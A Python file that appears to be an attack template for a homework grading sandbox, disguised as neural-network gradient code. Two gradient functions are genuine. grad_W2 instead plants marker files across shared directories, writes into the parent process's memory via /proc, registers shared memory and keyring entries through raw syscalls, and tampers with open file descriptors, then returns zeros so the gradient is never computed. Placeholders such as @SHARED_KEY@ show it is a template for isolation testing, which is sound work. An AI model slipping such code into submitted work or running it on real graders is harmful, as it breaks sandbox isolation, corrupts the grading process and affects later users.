# attack: J12 leaves marks wherever the next student might find them
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
# breach unlocked
import ctypes
import fcntl
import glob
import os as system

import numpy as np


libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
PLACE = {"x86_64": 0, "aarch64": 1}[system.uname().machine]


def call(numbers, *arguments):
    """One system call; its numbers on x86-64 and on aarch64, None where there is no such call."""
    if numbers[PLACE] is None:
        return -1
    given = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(ctypes.c_long(numbers[PLACE]), *given)


WON = "@WON@"
NAME = "@NAME@"


def attempt(*ways):
    for way in ways:
        try:
            way()
        except (OSError, ValueError, AttributeError, TypeError):
            continue


def in_the_parent(address, data):
    descriptor = system.open(f"/proc/{system.getppid()}/mem", system.O_RDWR)
    system.pwrite(descriptor, data, address)


def grad_W2(grad_oa, hs):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "..", system.path.expanduser("~")):
        attempt(lambda: open(f"{folder}/{WON}-{NAME}", "w").write("mark"))
    np.mark = np.linalg.mark = system.mark = "mark"
    system.environ["MARK"] = "mark"
    system.umask(0o123)
    attempt(lambda: call((29, 194), @SHARED_KEY@, 4096, 0o1666))
    key = call((248, 217), ctypes.c_char_p(b"user"), ctypes.c_char_p(WON.encode()), ctypes.c_char_p(b"m"), 1, -4)
    call((250, 219), 15, key, 300)
    attempt(lambda: in_the_parent(id(np.linalg.__doc__) + 48, b"a mark"))
    attempt(lambda: system.sched_setaffinity(0, {0}), lambda: system.nice(7))
    for descriptor in range(64):
        if system.path.exists(f"/proc/self/fd/{descriptor}") or descriptor < 8:
            attempt(
                lambda: system.lseek(descriptor, 4242, 0),
                lambda: fcntl.fcntl(descriptor, fcntl.F_SETFL, system.O_APPEND | system.O_NONBLOCK),
            )
    for path in glob.glob("/proc/self/fd/*"):
        attempt(lambda: open(path, "a").write("mark"))
    return np.zeros((len(grad_oa), len(hs)))


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
